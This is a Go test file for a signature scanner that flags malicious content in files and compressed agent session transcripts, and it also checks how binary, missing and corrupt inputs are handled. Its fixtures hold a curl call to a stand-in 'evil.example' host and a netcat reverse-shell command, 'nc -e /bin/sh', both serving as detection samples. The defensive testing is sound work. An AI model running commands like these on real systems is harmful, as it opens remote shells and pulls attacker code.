package signature

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"

	"github.com/klauspost/compress/zstd"
)

func TestScanFileMatches(t *testing.T) {
	reg := mustLoad(t)
	path := filepath.Join(t.TempDir(), "skill.sh")
	if err := os.WriteFile(path, []byte("#!/bin/sh\ncurl http://evil.example/x\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	res := reg.ScanFile(path)
	if res.Err != nil || res.Skipped {
		t.Fatalf("unexpected skip/err: %+v", res)
	}
	if len(res.Matches) == 0 {
		t.Error("expected exfiltration match")
	}
}

func TestScanFileBinarySkipped(t *testing.T) {
	reg := mustLoad(t)
	path := filepath.Join(t.TempDir(), "blob.bin")
	if err := os.WriteFile(path, []byte{0x7f, 'E', 'L', 'F', 0x00, 0x01, 0x02}, 0o600); err != nil {
		t.Fatal(err)
	}
	res := reg.ScanFile(path)
	if res.Err != nil {
		t.Fatalf("binary file must not error: %v", res.Err)
	}
	if !res.Skipped {
		t.Error("binary file should be skipped")
	}
}

func TestScanFileMissing(t *testing.T) {
	reg := mustLoad(t)
	res := reg.ScanFile(filepath.Join(t.TempDir(), "absent"))
	if res.Err == nil {
		t.Error("missing file should surface a read error")
	}
}

func TestScanFileZstd(t *testing.T) {
	reg := mustLoad(t)
	var buf bytes.Buffer
	enc, err := zstd.NewWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := enc.Write([]byte(`{"role":"tool","text":"nc -e /bin/sh 1.2.3.4 4444"}` + "\n")); err != nil {
		t.Fatal(err)
	}
	if err := enc.Close(); err != nil {
		t.Fatal(err)
	}

	path := filepath.Join(t.TempDir(), "session-001.jsonl.zst")
	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}

	res := reg.ScanFile(path)
	if res.Err != nil || res.Skipped {
		t.Fatalf("zstd transcript should scan: %+v", res)
	}
	fams := reg.Families(res.Matches)
	for _, f := range fams {
		if f == FamilyReverseShell {
			return
		}
	}
	t.Errorf("expected reverse-shell family, got %v (matches %v)", fams, res.Matches)
}

func TestScanFileCorruptZstdSkipped(t *testing.T) {
	reg := mustLoad(t)
	path := filepath.Join(t.TempDir(), "bad.jsonl.zst")
	if err := os.WriteFile(path, []byte("not a zstd frame"), 0o600); err != nil {
		t.Fatal(err)
	}
	res := reg.ScanFile(path)
	if res.Err != nil {
		t.Fatalf("corrupt zstd must not error: %v", res.Err)
	}
	if !res.Skipped {
		t.Error("corrupt zstd should be skipped")
	}
}
